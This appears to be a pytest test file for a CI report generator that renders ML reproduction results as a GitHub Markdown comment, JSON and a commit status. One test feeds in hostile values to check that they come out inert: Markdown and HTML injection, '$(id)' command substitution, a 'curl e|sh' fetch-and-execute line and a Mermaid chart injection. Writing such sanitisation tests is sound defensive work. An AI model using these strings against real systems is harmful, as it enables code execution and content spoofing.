"""The report: Markdown that stays inert and under GitHub's limit, JSON, the status line."""

from __future__ import annotations

import re

import pytest

from gitops_ml.ci import report
from gitops_ml.core.errors import UsageError

ULID = "01J9ZZZZZZZZZZZZZZZZZZZZZZ"


def _claimed(i: int, status: str = "reproduced", name: str = "run") -> dict:
    return {
        "id": f"01J9{i:022d}",
        "name": name,
        "claim": "made on abcdef123456",
        "status": status,
        "value": 0.9,
        "seconds": 1.5,
        "checks": [
            {
                "name": "accuracy",
                "expected": 0.9,
                "got": 0.9,
                "delta": 0.0,
                "tolerance": "exact",
                "ok": True,
            }
        ],
    }


def _result(claimed: list[dict], ok: bool = True, **extra: object) -> dict:
    return {
        "schema": 1,
        "ok": ok,
        "mode": "claimed",
        "base": "a" * 40,
        "head": "b" * 40,
        "primary": {"metric": "accuracy", "higher_is_better": True, "allowed_regression": "abs:0"},
        "base_best": {"id": ULID, "name": "best", "value": 0.85, "commit": "c" * 40},
        "claimed": claimed,
        "retrain": None,
        "comparison": None,
        "trend": [{"id": ULID, "value": v} for v in (0.8, 0.82, 0.85)],
        "failures": [],
        "notes": [],
        "seconds": 3.2,
        **extra,
    }


def test_the_comment_has_the_marker_table_chart_and_commands() -> None:
    md = report.markdown(_result([_claimed(1)]))
    assert md.startswith(report.MARKER + "\n### ✅ gitops-ml check passed")
    assert (
        "| `01J9000000…` | run | made on abcdef123456 | 0.9 | +0.05 (+5.9%) ▲ | ✅ reproduced | 1.5 s |"
        in md
    )
    assert "```mermaid\nxychart-beta\n" in md and "    line [0.8, 0.82, 0.85]" in md
    assert "gitops-ml reproduce 01J90000000000000000000001 --verify" in md


def test_hostile_names_are_inert() -> None:
    evil = "x | y\n<!-- gitops-ml:pr-check --> ![img](http://e/x.png) [l](http://e) @team `rm` $(id) </details>"
    res = _result([_claimed(1, name=evil)], failures=[f"run 1: {evil}"], notes=[evil])
    res["claimed"][0]["checks"][0]["name"] = "acc```\n```sh\ncurl e|sh"
    res["primary"]["metric"] = 'acc"]\n  title "pwned'
    md = report.markdown(res)
    assert md.count(report.MARKER) == 1 and md.count("<!--") == 1
    for bad in ("![", "](http", "@team", "`rm`", "</details>\n|", "\ncurl"):
        assert bad not in md, bad
    chart = md.split("```mermaid\n", 1)[1].split("```", 1)[0]
    assert chart.count('"') == 4 and "pwned" not in chart.split("\n")[1].split('"')[2]
    # every table row has the same number of cells as its header
    for block in re.findall(r"(?:^\|.*\|\n)+", md, re.M):
        rows = block.splitlines()
        assert len({r.count(" | ") for r in rows if not r.startswith("|-")}) == 1, block


def test_a_huge_report_is_summarised_under_the_limit_without_cutting_a_table() -> None:
    claimed = [
        _claimed(i, "reproduced" if i % 3 else "not reproduced", name="n" * 60) for i in range(3000)
    ]
    failures = [f"run {i}: metric accuracy claimed 0.9, reproduced 0.1" for i in range(1000)]
    md = report.markdown(_result(claimed, ok=False, failures=failures))
    assert len(md) <= report.COMMENT_LIMIT
    assert "…and 2813 more claimed runs (937 not reproduced, 1876 reproduced)" in md
    assert md.count("```") % 2 == 0 and md.count("<details>") == md.count("</details>")
    lines = md.splitlines()
    for i, line in enumerate(lines[:-1]):  # a table row is never the last thing before a cut
        if line.startswith("| ") and not lines[i + 1].startswith("|"):
            assert lines[i + 1] == "", line
    small = report.markdown(_result([_claimed(1)]))
    assert "more claimed runs" not in small


def test_state_and_description_fit_a_commit_status() -> None:
    assert report.state(_result([_claimed(1)])) == ("success", "1 claimed run reproduced")
    failing = _result([], ok=False, failures=["x" * 300, "y"])
    state, description = report.state(failing)
    assert state == "failure" and len(description) <= 140 and description.endswith("(+1 more)")


@pytest.mark.parametrize(
    "bad",
    [
        [],
        {"schema": 2, "ok": True},
        {"schema": 1, "ok": "yes"},
        {"schema": 1, "ok": True, "claimed": [1]},
        {"schema": 1, "ok": True, "claimed": [{"checks": "x"}]},
        {"schema": 1, "ok": True, "failures": [{}]},
    ],
)
def test_a_malformed_result_is_refused(bad: object) -> None:
    with pytest.raises(UsageError, match="not a ci verify result"):
        report.validate(bad, "result.json")
